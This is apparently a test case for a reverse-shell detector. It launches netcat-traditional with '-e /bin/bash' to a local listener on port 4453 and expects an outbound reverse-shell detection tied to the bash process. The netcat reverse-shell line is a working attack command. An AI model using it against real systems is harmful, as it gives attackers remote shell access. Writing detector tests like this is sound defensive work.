# R03b: netcat-traditional becomes bash
# stage: equipped
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4453

#: prepare
. lib/peers.sh
peer 4453
#: act
. lib/peers.sh
act
nc.traditional 127.0.0.1 4453 -e /bin/bash < /dev/null > /dev/null 2>&1 & fact shell $!
await 'at $shell ../exe /usr/bin/bash && at $shell 0 socket:*'
same $shell 0 $shell 1
